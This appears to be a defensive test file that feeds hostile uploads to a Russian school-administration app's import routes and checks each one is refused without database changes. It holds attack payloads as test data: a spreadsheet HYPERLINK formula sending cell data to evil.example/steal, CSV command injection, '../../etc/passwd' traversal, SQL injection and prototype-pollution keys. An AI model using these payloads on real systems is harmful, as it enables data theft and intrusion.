import { randomBytes } from "node:crypto";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { POST as schoolsRoute } from "@/app/api/municipalities/[id]/schools/route";
import { POST as roadmapRoute } from "@/app/api/plans/import/route";
import { POST as studentsRoute } from "@/app/api/school/students/records/route";
import { POST as templateRoute } from "@/app/api/templates/import/route";
import { SCHOOL_COLUMNS } from "@/lib/domain/directory/school-table";
import { ROADMAP_COLUMNS } from "@/lib/domain/plans/roadmap-table";
import type { Scope } from "@/lib/scope";
import { SCHOOL_BLANK } from "@/lib/seed-data/blanks";
import { getScope } from "@/lib/server/auth/get-scope";
import { db } from "@/lib/server/db/client";
import { STUDENT_COLUMNS, TEACHER_COLUMNS } from "@/lib/domain/students/student-table";
import { templateToXlsx } from "@/lib/domain/templates/template-xlsx";
import { buildTwoTenants, userWithRole } from "../support/directory";
import { docxSample, exeSample, htmlSample, pdfSample } from "../support/file-samples";
import { xlsxOf } from "../support/spreadsheets";
import { useTestDatabase } from "../support/test-database";
import {
  declaredBombDocx,
  declaredBombXlsx,
  elfSample,
  farCellXlsx,
  HOSTILE_FILE_NAMES,
  lyingBombDocx,
  lyingBombXlsx,
  manyEntriesXlsx,
  minimalXlsx,
  shellScriptSample,
  wholeSheetMergeXlsx,
  wholeSheetValidationXlsx,
  zip64BombXlsx,
} from "../unit/property/hostile-samples";
import { answered, expectRefused, fingerprint, uploadRequest } from "./hostile-input-support";

/**
 * Every import (template JSON/XLSX, roadmap Markdown/CSV/XLSX, schools XLSX/CSV,
 * ДОТ students and teachers XLSX/CSV) fed hostile files through its route
 * handler: random bytes, damaged and truncated workbooks, zip bombs that declare
 * or inflate to gigabytes, sheets that expand to billions of cells, programs and
 * scripts under a table's name, formula cells, path-like file names. Each one
 * answers a 4xx with Russian messages — never a 500, never a thrown error — and
 * leaves every table of the database as it was.
 */

vi.mock("@/lib/server/auth/get-scope", () => ({ getScope: vi.fn() }));

useTestDatabase();

const as = (scope: Scope) => vi.mocked(getScope).mockResolvedValue(scope);
const SEED = 20_260_210;
const YEAR = "2025/2026";

let t: Awaited<ReturnType<typeof buildTwoTenants>>;
let admin: Scope;
let mo: Scope;
let school: Scope;

beforeAll(async () => {
  t = await buildTwoTenants("hos");
  admin = (await userWithRole("admin@hos.test", "REGION_ADMIN", { regionId: t.regionA.id })).scope;
  mo = (await userWithRole("mo@hos.test", "MUNICIPAL_COORDINATOR", { regionId: t.regionA.id, municipalityId: t.a1.id })).scope;
  school = (
    await userWithRole("school@hos.test", "SCHOOL_COORDINATOR", {
      regionId: t.regionA.id,
      municipalityId: t.a1.id,
      organizationId: t.a1s1.id,
    })
  ).scope;
});

const FORMULA: ExcelJS.CellFormulaValue = { formula: 'HYPERLINK("http://evil.example/steal?c="&A1,"Нажмите")', result: "Нажмите" };
const csvOf = (rows: string[][]) =>
  Buffer.from(rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(";")).join("\r\n"), "utf8");

interface HostileFile {
  label: string;
  bytes: Uint8Array;
}

/** 300,000 tiny cells: a table no import reads, which exceljs would hold in memory whole. */
function manyCellsXlsx(): Buffer {
  const rows: string[] = [];
  for (let r = 1; r <= 30_000; r++) {
    rows.push(
      `<row r="${r}">${Array.from({ length: 10 }, (_, c) => `<c r="${String.fromCharCode(65 + c)}${r}"><v>${r}</v></c>`).join("")}</row>`,
    );
  }
  return minimalXlsx(
    `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows.join("")}</sheetData></worksheet>`,
  );
}

let files: Promise<HostileFile[]> | undefined;
/** Built once for all the imports. */
const hostileFiles = () => (files ??= buildHostileFiles());

/** Files no import may accept, whatever table it expects. */
async function buildHostileFiles(): Promise<HostileFile[]> {
  const workbook = await xlsxOf([
    ["Наименование", "Адрес"],
    ["Школа", "ул. Мира, 1"],
  ]);
  const random = fc.sample(fc.uint8Array({ minLength: 1, maxLength: 4_000 }), { seed: SEED, numRuns: 4 });
  const nested = `{"format":"metodaudit.template/v1","key":"deep","name":"x","level":"SCHOOL","content":{"title":"t","columns":{"number":"№","name":"n","value":"v","match":"m"},"items":[${'{"children":['.repeat(100_000)}${"]}".repeat(100_000)}]}}`;
  return [
    { label: "empty", bytes: new Uint8Array() },
    ...random.map((bytes, i) => ({ label: `random bytes ${i}`, bytes })),
    { label: "random bytes after PK", bytes: Buffer.concat([Buffer.from("PK\u0003\u0004"), randomBytes(2_000)]) },
    { label: "truncated workbook", bytes: workbook.subarray(0, Math.floor(workbook.length / 2)) },
    { label: "workbook without its end", bytes: workbook.subarray(0, workbook.length - 30) },
    {
      label: "workbook with a part overwritten",
      bytes: Buffer.concat([workbook.subarray(0, 200), randomBytes(400), workbook.subarray(600)]),
    },
    { label: "zip bomb declaring 4 GB", bytes: declaredBombXlsx() },
    { label: "ZIP64 bomb declaring 1 TB", bytes: zip64BombXlsx() },
    { label: "zip bomb inflating to 1 GB", bytes: lyingBombXlsx(1) },
    { label: "workbook of 5000 parts", bytes: manyEntriesXlsx(5_000) },
    { label: "a sheet merged whole", bytes: wholeSheetMergeXlsx() },
    { label: "a sheet validated whole", bytes: wholeSheetValidationXlsx() },
    { label: "one cell in XFD1048576", bytes: farCellXlsx() },
    { label: "300,000 cells", bytes: manyCellsXlsx() },
    { label: "DOCX zip bomb declaring 4 GB", bytes: declaredBombDocx() },
    { label: "DOCX zip bomb inflating to 1 GB", bytes: lyingBombDocx(1) },
    { label: "a Word document", bytes: docxSample() },
    { label: "a PDF", bytes: pdfSample() },
    { label: "a Linux executable", bytes: elfSample() },
    { label: "a Windows executable", bytes: exeSample() },
    { label: "a shell script", bytes: shellScriptSample() },
    { label: "an HTML page", bytes: htmlSample() },
    { label: "an XLS header", bytes: Buffer.from("d0cf11e0a1b11ae1000000000000000000000000", "hex") },
    { label: "a megabyte of control characters", bytes: Buffer.from("\u0001\u0002\u001b\u007f".repeat(256 * 1024)) },
    {
      label: "Windows-1251 text",
      bytes: Buffer.from([0xcd, 0xe0, 0xe8, 0xec, 0xe5, 0xed, 0xee, 0xe2, 0xe0, 0xed, 0xe8, 0xe5, 0x3b, 0xc0, 0xe4, 0xf0, 0xe5, 0xf1]),
    },
    { label: "a quote never closed", bytes: Buffer.from('№;Наименование\r\n1;"Школа\r\n2;Гимназия') },
    { label: "a megabyte in one cell", bytes: Buffer.from(`"${"«".repeat(1024 * 1024)}"`) },
    { label: "formulas in the header", bytes: await xlsxOf([[FORMULA, FORMULA, FORMULA, FORMULA, FORMULA]]) },
    { label: "CSV of formulas", bytes: csvOf([['=HYPERLINK("http://evil","x")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1"]]) },
    { label: "JSON nested 100000 deep", bytes: Buffer.from(nested) },
    {
      label: "JSON with prototype keys",
      bytes: Buffer.from('{"__proto__":{"polluted":"да"},"constructor":{"prototype":{"polluted":"да"}}}'),
    },
    { label: "JSON null", bytes: Buffer.from("null") },
    { label: "JSON 1e999", bytes: Buffer.from("1e999") },
    { label: "six megabytes", bytes: Buffer.alloc(6 * 1024 * 1024, 0x41) },
  ];
}

type Route = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;

interface ImportCase {
  name: string;
  caller: () => Scope;
  call: (bytes: Uint8Array, fileName: string, dryRun?: boolean) => Promise<Response>;
  /** A table this import reads, every text cell of its data row a formula. */
  formulaTable: () => Promise<Buffer>;
}

const run = (
  route: Route,
  url: string,
  bytes: Uint8Array,
  fileName: string,
  fields: Record<string, string> = {},
  params: Record<string, string> = {},
) => route(uploadRequest(url, { bytes, name: fileName }, fields), { params: Promise.resolve(params) });

const dataRow = (width: number) => Array.from({ length: width }, () => FORMULA);

const CASES: ImportCase[] = [
  {
    name: "template (JSON, XLSX)",
    caller: () => admin,
    call: (bytes, name) => run(templateRoute as Route, "http://localhost/api/templates/import", bytes, name),
    formulaTable: async () => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await templateToXlsx(SCHOOL_BLANK)) as unknown as ExcelJS.Buffer);
      // The format cell of sheet «Шаблон» as a formula: the file is not a template.
      workbook.getWorksheet("Шаблон")!.getRow(2).getCell(2).value = FORMULA;
      return Buffer.from(await workbook.xlsx.writeBuffer());
    },
  },
  {
    name: "roadmap (Markdown, CSV, XLSX, DOCX)",
    caller: () => mo,
    call: (bytes, name, dryRun) =>
      run(roadmapRoute as Route, "http://localhost/api/plans/import", bytes, name, {
        schoolYear: "2020/2021",
        ...(dryRun ? { dryRun: "true" } : {}),
      }),
    formulaTable: () => xlsxOf([ROADMAP_COLUMNS.map((c) => c.header), dataRow(ROADMAP_COLUMNS.length)]),
  },
  {
    name: "schools (XLSX, CSV)",
    caller: () => mo,
    call: (bytes, name, dryRun) =>
      run(
        schoolsRoute as Route,
        `http://localhost/api/municipalities/${t.a1.id}/schools${dryRun ? "?dryRun=1" : ""}`,
        bytes,
        name,
        {},
        { id: t.a1.id },
      ),
    formulaTable: () => xlsxOf([SCHOOL_COLUMNS.map((c) => c.header), [1, ...dataRow(SCHOOL_COLUMNS.length - 1)]]),
  },
  {
    name: "ДОТ students (XLSX, CSV)",
    caller: () => school,
    call: (bytes, name, dryRun) =>
      run(studentsRoute as Route, `http://localhost/api/school/students/records${dryRun ? "?dryRun=1" : ""}`, bytes, name, {
        kind: "students",
        schoolYear: YEAR,
      }),
    formulaTable: () => xlsxOf([STUDENT_COLUMNS.map((c) => c.header), dataRow(STUDENT_COLUMNS.length)]),
  },
  {
    name: "ДОТ teachers (XLSX, CSV)",
    caller: () => school,
    call: (bytes, name, dryRun) =>
      run(studentsRoute as Route, `http://localhost/api/school/students/records${dryRun ? "?dryRun=1" : ""}`, bytes, name, {
        kind: "teachers",
        schoolYear: YEAR,
      }),
    formulaTable: () => xlsxOf([TEACHER_COLUMNS.map((c) => c.header), dataRow(TEACHER_COLUMNS.length)]),
  },
];

const EXTENSIONS = [".xlsx", ".csv", ".md", ".json", ".pdf", ""];

describe.each(CASES)("import of $name", (importCase) => {
  it("refuses every hostile file with a 4xx in Russian, and changes nothing", async () => {
    as(importCase.caller());
    const files = await hostileFiles();
    const before = await fingerprint();
    for (const [i, file] of files.entries()) {
      // Each file under a path-like or hostile name, with each extension the import might trust.
      const name = `${HOSTILE_FILE_NAMES[i % HOSTILE_FILE_NAMES.length]}${EXTENSIONS[i % EXTENSIONS.length]}`;
      const what = `${importCase.name}: ${file.label}`;
      await expectRefused(await answered(importCase.call(file.bytes, name), what), what);
    }
    expect(await fingerprint()).toEqual(before);
  }, 300_000);

  it("never evaluates a formula: a header of formulas is refused, data cells of formulas are text", async () => {
    as(importCase.caller());
    const before = await fingerprint();
    const response = await importCase.call(await importCase.formulaTable(), "формулы.xlsx", true);
    const text = await response.text();
    // Either refused (422, the cell quoted as the text typed) or previewed (dryRun, 200): a formula is never run,
    // it is text at most — the formula as typed or the result Excel cached — and nothing is written.
    expect([200, 422], text.slice(0, 300)).toContain(response.status);
    const body = JSON.parse(text) as { errors?: { message: string }[] };
    for (const error of body.errors ?? []) expect(error.message).toMatch(/[А-Яа-яЁё]/u);
    expect(await fingerprint()).toEqual(before);
  });
});

describe("random files, many of them", () => {
  it("a table import refuses random bytes and random text in Russian and writes nothing", async () => {
    as(mo);
    const before = await fingerprint();
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.uint8Array({ minLength: 1, maxLength: 3_000 }),
          fc.string({ unit: "binary", minLength: 1, maxLength: 2_000 }).map((s) => new Uint8Array(Buffer.from(s, "utf8"))),
          fc
            .array(fc.array(fc.string({ maxLength: 20 }), { maxLength: 6 }), { minLength: 1, maxLength: 6 })
            .map((rows) => new Uint8Array(csvOf(rows))),
        ),
        fc.constantFrom(...HOSTILE_FILE_NAMES, "отчет.md", "schools.csv", "карта.xlsx"),
        async (bytes, name) => {
          await expectRefused(await CASES[1]!.call(bytes, name), "roadmap: random file");
          await expectRefused(await CASES[2]!.call(bytes, name), "schools: random file");
        },
      ),
      { seed: SEED, numRuns: 25 },
    );
    expect(await fingerprint()).toEqual(before);
  }, 120_000);
});

describe("hostile form fields and query parameters", () => {
  it("are refused in Russian, and nothing is written", async () => {
    const csv = csvOf([SCHOOL_COLUMNS.map((c) => c.header), ["1", "МБОУ СОШ № 9", "ул. Мира, 1", "Иванов И. И.", "8 (384) 3-00-00"]]);
    const hostile = ["__proto__", "../../etc/passwd", "2020/2021\u0000", "1".repeat(100_000), "2020/2022", "=1+1", "' OR 1=1 --", ""];
    const before = await fingerprint();
    for (const value of hostile) {
      as(mo);
      const roadmap = await answered(
        roadmapRoute(uploadRequest("http://localhost/api/plans/import", { bytes: csv, name: "отчет.csv" }, { schoolYear: value }), {
          params: Promise.resolve({}),
        }),
        `roadmap schoolYear ${value.slice(0, 20)}`,
      );
      await expectRefused(roadmap, `roadmap schoolYear ${value.slice(0, 20)}`);
      as(school);
      const attempts: Record<string, string>[] = [
        { kind: value, schoolYear: YEAR },
        { kind: "students", schoolYear: value },
        { kind: "teachers", schoolYear: YEAR, organizationId: value || "x" },
      ];
      for (const fields of attempts) {
        const response = await answered(
          studentsRoute(uploadRequest("http://localhost/api/school/students/records", { bytes: csv, name: "дот.csv" }, fields), {
            params: Promise.resolve({}),
          }),
          `students ${JSON.stringify(fields).slice(0, 60)}`,
        );
        await expectRefused(response, `students ${JSON.stringify(fields).slice(0, 60)}`);
      }
      as(admin);
      const template = await answered(
        templateRoute(
          uploadRequest(`http://localhost/api/templates/import?regionId=${encodeURIComponent(value)}`, {
            bytes: Buffer.from("{}"),
            name: "t.json",
          }),
          {
            params: Promise.resolve({}),
          },
        ),
        `template regionId ${value.slice(0, 20)}`,
      );
      await expectRefused(template, `template regionId ${value.slice(0, 20)}`);
      as(mo);
      const schools = await answered(
        (schoolsRoute as Route)(
          uploadRequest(`http://localhost/api/municipalities/${encodeURIComponent(value)}/schools`, { bytes: csv, name: "s.csv" }),
          {
            params: Promise.resolve({ id: value }),
          },
        ),
        `schools id ${value.slice(0, 20)}`,
      );
      await expectRefused(schools, `schools id ${value.slice(0, 20)}`);
    }
    expect(await fingerprint()).toEqual(before);
  }, 120_000);
});

describe("what a refusal names", () => {
  it("a template's refusal names the file by its base name only, never a path", async () => {
    as(admin);
    const response = await CASES[0]!.call(Buffer.from("не JSON"), "../../etc/passwd\u0000.json");
    const body = (await expectRefused(response, "template")) as { error: { message: string } };
    expect(body.error.message).toContain("«passwd.json»");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: a NUL in the message is what must not be there
    expect(body.error.message).not.toMatch(/\.\.|\/etc|\u0000/u);
  });

  it("a zip bomb is named as one, not as a broken file", async () => {
    as(mo);
    const body = (await expectRefused(await CASES[2]!.call(declaredBombXlsx(), "schools.xlsx"), "schools")) as {
      errors: { message: string }[];
    };
    expect(body.errors[0]!.message).toContain("распаковывается");
    expect(await db().organization.count({ where: { municipalityId: t.a1.id } })).toBe(2);
  });
});
